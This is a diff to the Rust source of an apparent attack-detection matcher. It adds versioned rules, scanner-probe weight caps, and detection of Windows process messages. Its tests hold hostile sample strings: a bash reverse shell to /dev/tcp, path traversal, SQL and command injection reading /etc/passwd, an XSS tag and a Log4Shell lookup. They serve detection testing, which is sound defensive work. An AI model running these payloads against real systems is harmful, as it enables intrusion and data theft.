@@ -1,9 +1,10 @@
 //! From a text to a verdict: the gate, the normaliser, the triggers, and at last the expressions.
 
-use super::Class;
+use super::columns::Place;
 use super::gate::Gate;
 use super::normalise::{Normaliser, Undone};
 use super::rules::{self, Places, Rule};
+use super::{Class, VERSIONS};
 use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
 use memchr::memmem::Finder;
 use regex::bytes::{Regex, RegexBuilder};
@@ -16,6 +17,12 @@ const WHOLE: usize = 16 * 1024;
 const AROUND: usize = 256;
 /// At most this many reasons are kept of one text.
 pub(crate) const REASONS: usize = 8;
+/// The most that a path which is only probed counts: with a refusal it stays below an alert.
+const PROBE: u8 = 74;
+/// How many lines of a message are asked whether it tells of a process.
+const MESSAGE_LINES: usize = 64;
+/// The newest version of the definition.
+const NEWEST: u32 = 2;
 /// Words of a set of rules.
 const SET: usize = 4;
 
@@ -44,10 +51,23 @@ pub(crate) struct Verdict {
 }
 
 impl Verdict {
-    /// Adds what was found in another text of the same record.
-    pub(crate) fn add(&mut self, other: &Self) {
-        for (mine, theirs) in self.strength.iter_mut().zip(&other.strength) {
-            *mine = either(*mine, *theirs);
+    /// Adds what was found in another text of the same record, in a version of the definition.
+    pub(crate) fn add(&mut self, other: &Self, version: u32) {
+        for class in Class::ALL {
+            let theirs = other.strength.get(class as usize).copied().unwrap_or(0.0);
+            self.raise(class, theirs, version);
+        }
+    }
+
+    /// Takes in one more sign of a class. Signs of a scanner do not come together as if they were
+    /// independent: whatever asks for paths to see whether they are there is a client without a browser.
+    fn raise(&mut self, class: Class, by: f32, version: u32) {
+        if let Some(strength) = self.strength.get_mut(class as usize) {
+            *strength = if class == Class::Scanner && version > 1 {
+                strength.max(by)
+            } else {
+                either(*strength, by)
+            };
         }
     }
 
@@ -88,6 +108,10 @@ type RuleSet = [u64; SET];
 /// own, so clones do not wait for each other.
 #[derive(Debug, Clone)]
 pub(crate) struct Matcher {
+    /// The version of the definition in force (C3).
+    version_in_force: u32,
+    /// The rules that it has.
+    in_force: RuleSet,
     line_gate: Arc<Gate>,
     request_gate: Arc<Gate>,
     triggers: AhoCorasick,
@@ -175,7 +199,9 @@ impl Matcher {
             .match_kind(MatchKind::Standard)
             .build(&words)
             .map_err(Box::new)?;
-        Ok(Self {
+        let mut matcher = Self {
+            version_in_force: NEWEST,
+            in_force: [0; SET],
             line_gate: Arc::new(Gate::new(words_for(Places::LINE.and(Places::COMMAND)), false)),
             request_gate: Arc::new(Gate::new(words_for(Places::ANY), true)),
             triggers,
@@ -185,7 +211,9 @@ impl Matcher {
             normaliser: Normaliser::default(),
             excerpt: Vec::new(),
             met: Vec::new(),
-        })
+        };
+        matcher.use_version(NEWEST);
+        Ok(matcher)
     }
 
     /// The class and the words of a rule.
@@ -200,8 +228,29 @@ impl Matcher {
         }
     }
 
+    /// Lets a version of the definition be in force; an unknown one stands for the newest.
+    pub(crate) fn use_version(&mut self, version: u32) {
+        self.version_in_force = if VERSIONS.contains(&version) { version } else { NEWEST };
+        self.in_force = [0; SET];
+        for (id, Compiled { rule, .. }) in self.compiled.iter().enumerate() {
+            if rule.is_in(self.version_in_force) {
+                insert(&mut self.in_force, id);
+            }
+        }
+    }
+
+    /// The version of the definition in force.
+    pub(crate) fn version(&self) -> u32 {
+        self.version_in_force
+    }
+
+    /// Looks at one text as it stands in a place; `None` when nothing speaks for an attack.
+    pub(crate) fn look(&mut self, raw: &[u8], place: Place) -> Option<Verdict> {
+        self.inspect(raw, place.places(self.version_in_force))
+    }
+
     /// Looks at one text; `None` when nothing speaks for an attack.
-    pub(crate) fn inspect(&mut self, raw: &[u8], places: Places) -> Option<Verdict> {
+    fn inspect(&mut self, raw: &[u8], places: Places) -> Option<Verdict> {
         if !self.worth_a_look(raw, places) {
             return None;
         }
@@ -213,7 +262,8 @@ impl Matcher {
     /// The gate, on the text as it is, or percent-decoded where there is something to decode.
     fn worth_a_look(&mut self, raw: &[u8], places: Places) -> bool {
         let request = places.meets(Places::SENT)
-            || raw.first() == Some(&b'/')
+            || (raw.first() == Some(&b'/')
+                && (!places.meets(Places::VALUE) || memchr::memchr(b'?', raw).is_some()))
             || self.version.find(raw).is_some();
         let gate = if request { &self.request_gate } else { &self.line_gate };
         if gate.opens(raw) {
@@ -234,8 +284,14 @@ impl Matcher {
     /// All but the gate; public to tests, which compare both.
     pub(crate) fn inspect_closely(&mut self, raw: &[u8], places: Places) -> Option<Verdict> {
         self.normaliser.run(raw);
-        let places = if places.meets(Places::LINE) && is_request(&self.normaliser.text) {
+        let version = self.version_in_force;
+        let text = &self.normaliser.text;
+        let places = if places.meets(Places::LINE) && is_request(text)
+            || places.meets(Places::VALUE) && is_whole_request(text)
+        {
             places.and(Places::REQUEST)
+        } else if places.meets(Places::LINE) && version > 1 && tells_of_a_process(raw) {
+            Places::PROCESS
         } else {
             places
         };
@@ -262,9 +318,9 @@ impl Matcher {
             }
             *met = true;
             let mut new = false;
-            for (all, one) in candidates.iter_mut().zip(set) {
-                new |= *one & !*all != 0;
-                *all |= one;
+            for ((all, one), has) in candidates.iter_mut().zip(set).zip(&self.in_force) {
+                new |= *one & *has & !*all != 0;
+                *all |= *one & *has;
             }
             // Of a long text, what stands around the first trigger of each rule is enough.
             if long && new && self.excerpt.len() < WHOLE {
@@ -285,13 +341,16 @@ impl Matcher {
                 if rule.places.meets(places)
                     && expression.as_ref().is_none_or(|expression| expression.is_match(seen))
                 {
-                    found.add(id, rule.class, rule.weight);
+                    // Looking for a door is no attack yet.
+                    let probe = rule.class == Class::Scanner && rule.places == Places::REQUEST;
+                    let most = if probe && version > 1 { PROBE } else { u8::MAX };
+                    found.add(id, rule.class, rule.weight.min(most), version);
                 }
             }
         }
         for (index, (class, weight, _)) in COUNTED.iter().enumerate() {
             if counted(&self.normaliser.undone, index, places) {
-                found.add(self.compiled.len() + index, *class, *weight);
+                found.add(self.compiled.len() + index, *class, *weight, version);
             }
         }
         found.verdict()
@@ -329,8 +388,52 @@ fn counted(undone: &Undone, index: usize, places: Places) -> bool {
 
 /// Whether a line is a request or holds one: a path, or a method and version of HTTP.
 fn is_request(text: &[u8]) -> bool {
-    text.first() == Some(&b'/')
-        || memchr::memmem::find(text, b" http/").is_some()
+    text.first() == Some(&b'/') || has_method(text)
+}
+
+/// Whether a value is a request: a path with a query, or a method and version of HTTP. A path alone
+/// names a file or a program as well.
+fn is_whole_request(text: &[u8]) -> bool {
+    let query = || {
+        let at = memchr::memchr(b'?', text)?;
+        memchr::memchr(b'=', text.get(at..)?)
+    };
+    (text.first() == Some(&b'/') && query().is_some()) || has_method(text)
+}
+
+/// Fields of the messages that Windows and its sensors write about processes.
+const PROCESS_FIELDS: [&[u8]; 11] = [
+    b"image:",
+    b"commandline:",
+    b"parentcommandline:",
+    b"process name:",
+    b"new process name:",
+    b"process command line:",
+    b"application name:",
+    b"sourceimage:",
+    b"targetimage:",
+    b"hostapplication=",
+    b"host application =",
+];
+
+/// Whether a message of several lines tells of a process: then its programs and commands are what it
+/// is there to tell. The fields have to begin lines of the text as it was sent, which a value inside a
+/// line of a log does not.
+fn tells_of_a_process(raw: &[u8]) -> bool {
+    let begins = |line: &[u8]| {
+        let line = line.trim_ascii_start();
+        let is = |field: &&[u8]| {
+            line.get(..field.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(field))
+        };
+        PROCESS_FIELDS.iter().any(is)
+    };
+    memchr::memchr_iter(b'\n', raw)
+        .take(MESSAGE_LINES)
+        .any(|at| raw.get(at + 1..).is_some_and(begins))
+}
+
+fn has_method(text: &[u8]) -> bool {
+    memchr::memmem::find(text, b" http/").is_some()
         || [&b"get /"[..], b"post /", b"put /", b"head /", b"delete /", b"options /", b"patch /"]
             .iter()
             .any(|method| text.starts_with(method))
@@ -349,10 +452,8 @@ struct Found {
 }
 
 impl Found {
-    fn add(&mut self, id: usize, class: Class, weight: u8) {
-        if let Some(strength) = self.verdict.strength.get_mut(class as usize) {
-            *strength = either(*strength, f32::from(weight) / 100.0);
-        }
+    fn add(&mut self, id: usize, class: Class, weight: u8, version: u32) {
+        self.verdict.raise(class, f32::from(weight) / 100.0, version);
         self.weights.push((weight, id as RuleId));
     }
 
@@ -397,12 +498,13 @@ mod tests {
             "a\0b",
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         ] {
-            for places in [Places::LINE, Places::REQUEST, Places::AGENT] {
+            for places in [Places::LINE, Places::REQUEST, Places::AGENT, Places::VALUE] {
                 let whole = matcher.inspect_closely(text.as_bytes(), places);
                 let gated = matcher.inspect(text.as_bytes(), places);
                 assert_eq!(whole, gated, "{text}");
                 let class = gated.and_then(|verdict| verdict.best());
-                assert!(class.is_some_and(|(_, strength)| strength >= 0.5), "{text} {places:?}");
+                let found = class.is_some_and(|(_, strength)| strength >= 0.5);
+                assert!(found, "{text} {places:?}");
             }
         }
     }
@@ -422,7 +524,7 @@ mod tests {
             "Jan 1 00:00:01 host CRON[1]: (root) CMD (/usr/lib/sysstat/sa1 1 1)",
             "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
         ] {
-            for places in [Places::LINE, Places::REQUEST, Places::AGENT, Places::COMMAND] {
+            for places in Place::ALL.map(|place| place.places(NEWEST)) {
                 let verdict = matcher.inspect_closely(text.as_bytes(), places);
                 let strength = verdict.as_ref().and_then(Verdict::best).map_or(0.0, |best| best.1);
                 let reasons: Vec<_> = verdict
@@ -431,6 +533,48 @@ mod tests {
                     .collect();
                 assert!(strength < 0.5, "{text} {places:?} {reasons:?}");
             }
+        }
+    }
+
+    /// What names a thing is no attack on it, and an attack is one there too.
+    #[test]
+    fn a_path_or_a_name_is_no_attack_in_a_field_of_its_own() {
+        let mut matcher = Matcher::new().unwrap();
+        for text in [
+            "/usr/bin/git",
+            "/bin/zsh",
+            "/usr/sbin/cron",
+            "/etc/shadow",
+            "/etc/ssh/sshd_config",
+            "/var/log/nginx/error.log",
+            "/home/ada/.ssh/authorized_keys",
+            "/home/ada/.config/app/settings.json",
+            "/srv/app/.env",
+            "/finance/archive/schema.sql",
+            "/engineering/shared/config.ini",
+            "C:\\inetpub\\wwwroot\\web.config",
+            "C:\\Windows\\System32\\cmd.exe",
+            "file:///srv/share/plan.pdf",
+            "nmap/7.94",
+            "wapiti",
+            "powershell.exe -File C:\\scripts\\backup.ps1",
+        ] {
+            let verdict = matcher.look(text.as_bytes(), Place::Value);
+            let strength = verdict.as_ref().and_then(Verdict::best).map_or(0.0, |best| best.1);
+            assert!(strength < 0.5, "{text} {verdict:?}");
+        }
+        for text in [
+            "/srv/www/../../../etc/passwd",
+            "/search?q=1' or '1'='1",
+            "/cgi-bin/test?cmd=`id`",
+            "/?file=/etc/passwd",
+            "x' union select password from users--",
+            "report.pdf; cat /etc/passwd",
+            "<script>alert(1)</script>",
+            "${jndi:ldap://x/a}",
+        ] {
+            let class = matcher.look(text.as_bytes(), Place::Value).and_then(|v| v.best());
+            assert!(class.is_some_and(|(_, strength)| strength >= 0.5), "{text} {class:?}");
         }
     }
 
